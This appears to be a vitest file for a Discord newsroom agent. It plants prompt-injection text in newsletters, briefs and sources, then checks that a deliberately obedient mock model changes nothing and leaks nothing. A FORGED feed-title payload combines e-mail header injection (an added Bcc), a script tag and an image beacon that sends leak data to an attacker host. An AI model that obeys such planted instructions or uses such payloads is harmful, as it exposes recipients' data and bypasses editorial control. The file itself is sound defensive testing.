/**
 * Poison in what the desk itself has made of pages: a newsletter that waits to be sent, a brief, talk that a search finds.
 * The model obeys whatever it reads, whoever asks: a member, an editor, the operator, a job, a client of MCP.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, expect, it } from 'vitest';
import type { Stores } from '../../src/main/stores.ts';
import type { Newsletter } from '../../src/newsletter/model/outputs.ts';
import { parseSessionKey, sessionKey } from '../../src/sessions/key.ts';
import { obedientModel } from '../agent/injection/obedient-model.ts';
import { EVIL, LEAK, POISONS } from '../agent/injection/poisons.ts';
import { httpClient, tool } from '../edges/mcp/a-client.ts';
import { wordsOf } from '../support/discord/cards.ts';
import { START, botSaid } from '../support/discord-desk.ts';
import { addJob } from '../support/discord-newsroom.ts';
import { eventually } from '../support/fake-clock.ts';
import { openSmtp } from '../support/mail/loopback-smtp.ts';
import { ofBot, sampleNewsroom } from '../support/sample-on-discord.ts';

const SESSION = 'newsletter_20261120';
const TOPIC = 'Wakefield warehouse fire';

const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});

/** A newsletter that waits for an editor and a brief, both really made; then each is poisoned with all of these. */
async function besieged(poisons: readonly { readonly text: string }[], smtp?: { readonly port: number }) {
  const evil = poisons.map(({ text }) => text).join(' ');
  const edition = { newsletter: { approval: true, recipients: ['ann@example.org'] } };
  const room = await sampleNewsroom(closing, edition);
  const { discord, news, anna, ben } = room;
  await discord.slash(anna, news, 'newsletter run').final();
  await botSaid(discord, news, `Draft of ${SESSION}`);
  await discord.slash(ben, news, 'brief', { topic: TOPIC }).final();
  await botSaid(discord, news, /Sources/u);
  await room.desk.stop();

  const { home } = room.desk;
  const file = join(home, 'data', 'newsletters', SESSION, 'finalize_newsletter.json');
  const letter = JSON.parse(readFileSync(file, 'utf8')) as Newsletter;
  const sections = letter.sections.map((section) => ({
    ...section,
    stories: section.stories.map((story) => ({ ...story, headline: `${story.headline} ${evil}` })),
  }));
  const sources = letter.sources.map((source) => ({ ...source, title: evil }));
  writeFileSync(file, JSON.stringify({ ...letter, title: `Week; ${evil}`, sections, sources }));

  const model = obedientModel('everything');
  let kept: Stores | undefined;
  const given = JSON.parse(readFileSync('data/editions/sample.json', 'utf8')) as Record<string, unknown>;
  await room.start({
    home,
    model,
    ...(smtp && { env: { SMTP_URL: `smtp://127.0.0.1:${smtp.port}`, SMTP_FROM: 'Desk <desk@example.org>' } }),
    edition: { sample: true, feeds: given['feeds'], desk: { discord: news.id }, ...edition },
    stores: (stores) => (kept = stores),
  });
  const stores = kept!;
  const desk = sessionKey('discord', news.id);
  const brief = (await stores.sessionState.get(desk, 'brief')) as Record<string, unknown>;
  await stores.sessionState.set(desk, 'brief', { ...brief, final_post: `${TOPIC}. ${evil}` });
  await stores.notes.add(desk, { id: 'n0', text: 'The harbour is spelled with u', by: 'anna', atMs: START });
  await addJob(room, news);
  const { origin, hash } = new URL(room.desk.address);
  return { room, model, stores, desk, origin, token: hash.slice('#token='.length) };
}
type Siege = Awaited<ReturnType<typeof besieged>>;

/** All that a tool could have changed. */
async function changeable({ room, stores, desk }: Siege) {
  const jobs = await stores.jobs.list({ includeDisabled: true });
  const letters = await stores.newsletters.newest(9);
  return {
    jobs: jobs.map(({ state: _, ...job }) => job),
    notes: await stores.notes.list(desk, room.clock.now()),
    events: await stores.events.pending(parseSessionKey('main')),
    letters: letters.map(({ session, state, approvedBy }) => ({ session, state, approvedBy })),
    mails: await stores.mails.list(SESSION),
    batches: await stores.stories.openBatches(),
    threads: room.discord.realm.world.threadsOf(room.news).length,
    paused: await stores.state.get('paused'),
    briefs: await Promise.all([desk, OPS].map((session) => stores.sessionState.get(session, 'brief'))),
  };
}

const OPS = sessionKey('console', 'ops');

/** How many turns of the two sessions have ended. */
async function ended({ stores, desk }: Siege): Promise<number> {
  const entries = await Promise.all([desk, OPS].map((session) => stores.transcripts.tail(session, 1_000)));
  return entries.flat().filter(({ meta }) => meta?.kind === 'closure').length;
}

/** Let somebody ask; the turn is over once the model has read poison, has tried what that orders, and has answered. */
async function obeyed(siege: Siege, ask: () => unknown, what: string): Promise<void> {
  const { model } = siege;
  const [from, before] = [model.requests.length, await ended(siege)];
  model.found.clear();
  await ask();
  await eventually(async () => (await ended(siege)) > before, `${what}: the turn has ended`);
  const results = model.requests
    .slice(from)
    .flatMap(({ messages }) => messages.flatMap((one) => (one.role === 'tool' ? [one.name] : [])));
  expect(results, what).toEqual(expect.arrayContaining(['cron', 'newsletter']));
}

function expectHarmless({ room }: Siege): void {
  const { discord, news } = room;
  expect(discord.records.pings.filter(({ by }) => by === discord.bot.id)).toEqual([]);
  for (const channel of discord.realm.world.channels.values())
    for (const message of ofBot(discord, channel)) {
      if (channel.id !== news.id) throw new Error(`something was said in ${channel.id}: ${wordsOf(message)}`);
      expect(wordsOf(message)).not.toMatch(new RegExp(`//\\S*${LEAK}|//${EVIL}\\S*${LEAK}`, 'u'));
    }
}

const QUESTION = 'what does the newsletter of today say, and what did the brief say about Larkmoor?';

it('moves nothing, whoever asks a model that obeys all of it', async () => {
  const siege = await besieged(POISONS);
  const { room, model, origin, token } = siege;
  const { discord, news, anna, ben, clock } = room;
  const before = await changeable(siege);
  expect(before.letters).toEqual([{ session: SESSION, state: 'waiting', approvedBy: undefined }]);
  const { client } = await httpClient(origin, token, 'admin');
  closing.push(() => client.close());
  const rpc = (method: string, params: object) =>
    fetch(`${origin}/rpc`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: JSON.stringify({ id: 1, method, params }),
    });
  const key = `discord:${news.id}`;
  const actors: Readonly<Record<string, () => unknown>> = {
    'a member': () => discord.say(ben, news, `<@${discord.bot.id}> ${QUESTION}`),
    'an editor': () => discord.say(anna, news, `<@${discord.bot.id}> ${QUESTION}`),
    'an editor in Chinese': () =>
      discord.say(anna, news, `<@${discord.bot.id}> 今日份通訊講咩？簡報又講咩？`),
    'the operator': () => rpc('chat.send', { sessionKey: key, text: QUESTION, author: { name: 'Ann' } }),
    'the operator in the console': () =>
      rpc('chat.send', { sessionKey: 'console:ops', text: QUESTION, author: { name: 'Ann' } }),
    'a client of MCP': () => tool(client, 'chat_send', { sessionKey: key, text: QUESTION }),
  };
  for (const [who, ask] of Object.entries(actors)) {
    await obeyed(siege, ask, who);
    // Hidden letters are removed before a newsletter is told.
    const seen = POISONS.filter(({ code, text }) => text.includes(code)).map(({ code }) => code);
    expect([...model.found], who).toEqual(expect.arrayContaining(seen));
    expect(await changeable(siege), who).toEqual(before);
  }

  await addJob(room, news, { name: 'Reader', message: QUESTION, schedule: 'in 2 minutes' });
  const scheduled = await changeable(siege);
  // A job reads no newsletter by a tool: what it obeys stands in the session's history.
  await obeyed(siege, () => clock.advance(3 * 60_000), 'a job');
  expect(model.found.size).toBeGreaterThan(5);
  const after = await changeable(siege);
  expect({ ...after, jobs: [] }).toEqual({ ...scheduled, jobs: [] });
  for (const job of after.jobs) expect(scheduled.jobs).toContainEqual(job);
  expectHarmless(siege);
});

/** What a feed's title may try on the head and the body of an e-mail. */
const FORGED = {
  text: `x\r\nBcc: eve@${EVIL}\r\n\r\n</title><script>alert(1)</script><img src=https://${EVIL}/p.png?d=${LEAK}>`,
};

it('is sent once an editor says so, whole and to the recipients alone, and nothing else is done', async () => {
  const smtp = await openSmtp();
  const orders = POISONS.filter(({ calls }) => calls.some(([name]) => name === 'newsletter'));
  const siege = await besieged([...orders, FORGED], smtp);
  const { room } = siege;
  const { discord, news, anna } = room;
  const before = await changeable(siege);
  discord.say(anna, news, `<@${discord.bot.id}> please send the newsletter`);
  const { mail, raw, to } = await eventually(() => smtp.arrived[0], 'the e-mail has arrived');
  expect(to).toEqual(['ann@example.org']);
  expect(mail.subject).toContain('Bcc: eve@');
  expect([mail.bcc, mail.cc]).toEqual([undefined, undefined]);
  expect(raw.split('\r\n\r\n')[0]).not.toMatch(/^(?:b?cc|x-)/imu);
  expect(mail.html).not.toMatch(/<(?:script|img|iframe|link|form)\b/iu);
  expect(mail.html).toContain('&lt;script&gt;');
  const links = [...String(mail.html).matchAll(/href="([^"]*)"/gu)].map(([, url]) => url);
  expect(links.length).toBeGreaterThan(5);
  expect(links.filter((url) => url?.includes(EVIL))).toEqual([]);
  const { letters, jobs } = await changeable(siege);
  expect(letters).toMatchObject([{ session: SESSION, approvedBy: 'anna' }]);
  expect(jobs).toEqual(before.jobs);
});
